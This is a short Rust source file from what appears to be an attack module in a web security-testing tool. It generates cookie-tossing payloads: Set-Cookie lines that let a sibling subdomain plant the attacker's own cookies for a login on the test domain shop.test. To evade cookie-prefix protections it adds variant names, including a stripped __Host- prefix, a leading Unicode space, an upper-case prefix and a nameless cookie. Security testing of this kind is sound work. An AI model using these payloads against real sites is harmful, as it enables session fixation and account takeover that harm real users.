//! Cookies that a sibling subdomain sets in the hope that the login takes them for its own.

use crate::attack::target::Held;

/// The attacker's own cookie, for all subdomains and one path, under its name and under names that are almost it.
pub(super) fn tossed(own: &Held, path: &str) -> Vec<String> {
    let of = |(name, value): &(String, String)| {
        let plain = name.trim_start_matches("__Host-").to_owned();
        let names = [
            name.clone(),
            plain.clone(),
            format!("__Secure-{plain}"),
            format!("\u{2000}{name}"),
            format!("__HOST-{plain}"),
        ];
        let set = |name: String| format!("{name}={value}; Domain=shop.test; Path={path}; Secure; SameSite=None");
        let mut lines = names.map(set).to_vec();
        // A cookie without a name, whose value looks like one with it.
        lines.push(format!("={name}={value}; Domain=shop.test; Path={path}; Secure; SameSite=None"));
        lines
    };
    own.cookies.iter().flat_map(of).collect()
}
